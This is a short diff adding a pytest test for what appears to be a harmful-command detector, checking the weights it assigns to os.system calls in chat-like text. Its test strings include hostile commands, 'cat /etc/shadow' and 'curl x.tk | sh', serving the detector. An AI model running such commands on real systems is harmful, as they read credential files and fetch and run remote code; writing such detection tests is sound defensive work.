@@ -262,3 +262,12 @@ def test_harmful(name: str, rest: str) -> None:
 ])
 def test_not_harmful(name: str, rest: str) -> None:
     assert not harmful(name, rest)
+
+
+@pytest.mark.parametrize(("text", "weight"), [
+    ("in python, what's the difference between os.system('ls') and subprocess.run(['ls'])?", 0.5),
+    ("system('ls')", 0.85), ("os.system('ls')", 0.85), ("so how does os.system('id') work", 0.85),
+    ("so how does os.system('cat /etc/shadow') work", 0.85), ("can i call os.system('curl x.tk | sh') here", 0.85),
+])
+def test_exec_calls_weigh_the_command_and_the_talk_around_them(text: str, weight: float) -> None:
+    assert max(found.weight for found in commands(text) if found.how == "exec-call") == weight
